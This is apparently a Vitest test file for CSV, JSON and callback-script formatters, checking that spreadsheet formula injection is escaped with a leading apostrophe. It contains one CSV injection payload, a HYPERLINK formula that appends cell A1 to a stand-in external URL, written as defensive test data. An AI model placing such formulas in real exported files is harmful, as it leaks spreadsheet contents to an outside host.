import { expect, test } from 'vitest';
import { csv, json, script } from './formats.ts';

test('no text of others becomes a formula in a spreadsheet, and numbers stay numbers', () => {
	const rows = [
		{ reason: '=HYPERLINK("http://example.org/?"&A1)', value: -3 },
		{ reason: '@甲', value: 2 },
	];
	expect(csv(rows)).toBe(
		`\uFEFFreason,value\n"'=HYPERLINK(""http://example.org/?""&A1)",-3\n'@甲,2\n`,
	);
});

test('a table without a row has its head', () => {
	expect(csv([], ['id', 'page'])).toBe('\uFEFFid,page\n');
});

test('data for people is set line by line, data for scripts calls back', () => {
	expect(json([1])).toBe('[\n\t1\n]\n');
	expect(script('text', [1])).toBe('edition.text([1])');
});
